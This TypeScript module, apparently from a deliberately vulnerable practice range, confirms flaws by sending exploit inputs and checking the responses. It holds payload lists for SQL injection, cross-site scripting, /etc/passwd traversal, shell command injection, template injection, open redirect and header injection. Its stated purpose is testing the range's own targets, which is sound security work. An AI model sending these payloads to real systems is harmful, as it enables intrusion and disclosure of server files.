/**
 * Proves that a place of a course is really flawed, by exploiting it. For the range's own tests only: a proof
 * knows what works here, and tries far more than a scanner may.
 */
import { load } from 'cheerio';
import { runs } from '../proof.ts';
import type { Answer } from '../visitor.ts';

/** Sends an input to a place; tells for how many milliseconds the machine behind it paused. */
export type Ask = (words: string) => Promise<Answer & { paused: number }>;
export type Proof = (ask: Ask) => Promise<boolean>;

/** The answer to one of the inputs has the sign, and the answer to a harmless input does not. */
export const shows =
  (words: readonly string[], sign: (answer: Answer) => boolean): Proof =>
  async (ask) => {
    if (sign(await ask('plain'))) return false;
    for (const one of words) if (sign(await ask(one))) return true;
    return false;
  };

export const saying = (text: string) => (answer: Answer) => answer.body.includes(text);

/** A true and a false statement get different answers, and the same ones when repeated. */
export const differs =
  (pairs: readonly (readonly [yes: string, no: string])[]): Proof =>
  async (ask) => {
    const told = async (words: string) => {
      const { status, body } = await ask(words);
      return `${status} ${body.replaceAll(words, '')}`;
    };
    for (const [yes, no] of pairs) {
      const [first, other] = [await told(yes), await told(no)];
      if (first === other) continue;
      if ((await told(yes)) === first && (await told(no)) === other) return true;
    }
    return false;
  };

/** Inputs that ask for a delay are answered late, and others at once. A page that is always slow proves nothing. */
export const waits =
  (words: readonly ((seconds: number) => string)[]): Proof =>
  async (ask) => {
    const pausedFor = async (text: string) => (await ask(text)).paused;
    if ((await pausedFor('plain')) > 0) return false;
    for (const one of words) {
      if ((await pausedFor(one(0.2))) >= 200 && (await pausedFor(one(0))) === 0) return true;
    }
    return false;
  };

export const either =
  (...proofs: readonly Proof[]): Proof =>
  async (ask) => {
    for (const proof of proofs) if (await proof(ask)) return true;
    return false;
  };

const sqlEnds: readonly (readonly [before: string, after: string])[] = [
  ['1', ''],
  ["none' OR ", ' -- '],
  ["none%' OR ", ' -- '],
  ["none') OR ", ' -- '],
  ["none')) OR ", ' -- '],
  ['none" OR ', ' -- '],
  ['none") OR ', ' -- '],
  ['none")) OR ', ' -- '],
];

const sqlComplaint = /SQL|ORA-0|syntax error|sqlite3|pg_query|unrecognized token/;
/** A sign that ends a text is complained of; doubled it stands for itself, and is not. */
const mindsOpenText: Proof = async (ask) => {
  for (const sign of ["'", '"']) {
    if (!sqlComplaint.test((await ask(sign)).body)) continue;
    if (!sqlComplaint.test((await ask(sign + sign)).body)) return true;
  }
  return false;
};

export const sql = either(
  mindsOpenText,
  differs([
    ...sqlEnds.slice(1).map(([a, z]) => [`${a}2=2${z}`, `${a}2=3${z}`] as const),
    ['0 OR 2=2', '0 OR 2=3'],
    ['(CASE WHEN 2=2 THEN id ELSE -id END)', '(CASE WHEN 2=3 THEN id ELSE -id END)'],
    ['CASE WHEN 2=2 THEN 3 ELSE 1 END', 'CASE WHEN 2=3 THEN 3 ELSE 1 END'],
    ['-1) OR (2=2', '-1) OR (2=3'],
  ]),
);

export const sqlTime = waits([
  (s) => `(SELECT sleep(${s}))`,
  (s) => `1 OR sleep(${s})`,
  (s) => `1) OR (sleep(${s}))`,
  ...sqlEnds.slice(1).map(
    ([a, z]) =>
      (s: number) =>
        `${a}sleep(${s})${z}`,
  ),
]);

const call = 'proof()';
const entities = (code: string) => [...code].map((sign) => `&#${sign.charCodeAt(0)};`).join('');
export const script = shows(
  [
    `<img src=x onerror=${call}>`,
    `--><img src=x onerror=${call}>`,
    `</textarea><img src=x onerror=${call}>`,
    `</noscript><img src=x onerror=${call}>`,
    `</select><img src=x onerror=${call}>`,
    `</style><img src=x onerror=${call}>`,
    `</script><img src=x onerror=${call}>`,
    `*/${call}//`,
    `"><img src=x onerror=${call}>`,
    `" onfocus="${call}" autofocus x="`,
    `' onfocus='${call}' autofocus x='`,
    `x onfocus=${call} autofocus`,
    `';${call};//`,
    `");${call};//`,
    `');${call};//`,
    `";${call};//`,
    `\\';${call};//`,
    `\`;${call};//`,
    `0;${call}`,
    `javascript:${call}`,
    `<svg onload=${call}>`,
    `<script>${call}</script>`,
    `</title><svg/onload=${call}>`,
    // Quotes, for pages that print only what they refuse.
    `<img src=x onerror="${call}" alt='x'>`,
    // Entities have no capitals.
    ...['', '">'].map((before) => `${before}<img src=x onerror=${entities(call)}>`),
    `" onfocus="${entities(call)}" autofocus x="`,
  ],
  runs,
);

const anyAddress = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'];
/** Runs it in a frame's own page and in any address, or would load a script from a host of ours. */
const runsOddly = (answer: Answer): boolean => {
  if (runs(answer)) return true;
  const $ = load(answer.body);
  const framed = $('iframe').attr('srcdoc');
  if (framed !== undefined && runs({ ...answer, body: framed })) return true;
  const based = $('base').attr('href') ?? '';
  const ours = (to: string) => URL.parse(to, 'http://own.example/')?.hostname === 'proof.example';
  const scripts = $('script[src]')
    .toArray()
    .map((script) => $(script).attr('src') ?? '');
  if (scripts.some(ours) || (ours(based) && scripts.some((to) => !/^(?:\w+:|\/\/)/.test(to))))
    return true;
  return $('*')
    .toArray()
    .some((element) => anyAddress.some((name) => $(element).attr(name) === `javascript:${call}`));
};
export const oddScript = shows(
  [
    `'-${call}-'`,
    `"-${call}-"`,
    `x/-${call}-/x`,
    `javascript:${call}`,
    `click=${call} x`,
    `img src=x onerror=${call} `,
    ` onerror=${call} `,
    `<details open ontoggle=${call}>`,
    `" onx= onfocus=${call} x="`,
    `" onfocus=${call} x="`,
    `' onfocus=${call} x='`,
    '//proof.example/',
    'proof.example/',
    `"><img src=x onerror=${call}>`,
    `--><img src=x onerror=${call}>`,
    `</style><img src=x onerror=${call}>`,
    `</title><img src=x onerror=${call}>`,
    `</script><img src=x onerror=${call}>`,
    `<img src=x onerror=${call}>`,
    `<script>${call}</script>`,
  ],
  runsOddly,
);

/** Our tag is in the page as a real tag. */
export const tag = shows(['<b id=planted>x</b>'], ({ headers, body }) => {
  return /^text\/html/.test(String(headers['content-type'])) && load(body)('b#planted').length > 0;
});

const passwd = ({ body }: Answer) =>
  /^(?:.*<pre>)?root:x:0:0:.*\ndaemon:x:1:1:/m.test(
    body.replaceAll('\\n', '\n').replace(/^\{"\w+":"/, ''),
  );
const climb = '../../../../etc/passwd';
export const traversal = shows(
  [
    climb,
    '/etc/passwd',
    climb.replaceAll('../', '....//'),
    climb.replaceAll('../', '..\\'),
    `../${climb}`.replace('../', '....//'),
    `${climb}\0`,
    `papers/../${climb}`,
    `/srv/site/public/papers/../${climb}`,
    climb.replaceAll('../', '%2e%2e%2f'),
  ],
  passwd,
);

const sleeps = (s: number) =>
  [`;sleep ${s};`, `"; sleep ${s}; "`, `'; sleep ${s}; '`].map((one) => `x${one}`);
export const command = either(
  shows(
    [
      'x;echo $((7*191))',
      'x\necho $((7*191))',
      'x;echo$IFS$((7*191))',
      'x$(expr 7 \\* 191)',
      'x$((7*191))',
      'x"; echo $((7*191)) "',
      "x'; echo $((7*191)) '",
      'x&set /a 7*191',
      'x"&set /a 7*191 & "',
    ],
    saying('1337'),
  ),
  waits([0, 1, 2].map((at) => (s) => sleeps(s)[at] ?? '')),
);

const sums = ['7*191', "'+(7*191)+'", "'.(7*191).'", '"+(7*191)+"'];
export const evaluation = shows(
  [
    ...sums,
    ...sums.flatMap((sum) => [
      `{{${sum}}}`,
      `\${${sum}}`,
      `<%=${sum}%>`,
      `{${sum}}`,
      `#{${sum}}`,
      `@(${sum})`,
    ]),
    '#set($x = 7*191)$x',
    '%{7*191}',
    `__\${7*191}__::.x`,
    '{=7*191}',
  ],
  saying('1337'),
);

const far = 'elsewhere.example';
const awayAttempts = [
  `https://${far}/`,
  `//${far}/`,
  `/\\${far}/`,
  `https://partner.example.${far}/`,
  `https://${far}/partner.example`,
  `https://partner.example@${far}/`,
];
export const redirect = shows(awayAttempts, (answer) =>
  goingTo(answer).some((to) => {
    const base = 'http://here.example/';
    return URL.canParse(to, base) && new URL(to, base).host.endsWith(far);
  }),
);

function goingTo({ status, headers, body }: Answer): string[] {
  const $ = load(body);
  const refresh = $('meta[http-equiv="refresh"]').attr('content') ?? String(headers.refresh ?? '');
  return [
    status >= 300 && status < 400 ? String(headers.location ?? '') : '',
    /url=(.*)/.exec(refresh)?.[1] ?? '',
    /location(?:\.href)? ?(?:= |\.replace\()"(.*)"\)?;/.exec($('script').text())?.[1] ?? '',
  ];
}

export const headerLine = shows(
  ['a\r\nx-planted: yes', 'a\nx-planted: yes'],
  ({ headers }) => 'x-planted' in headers,
);
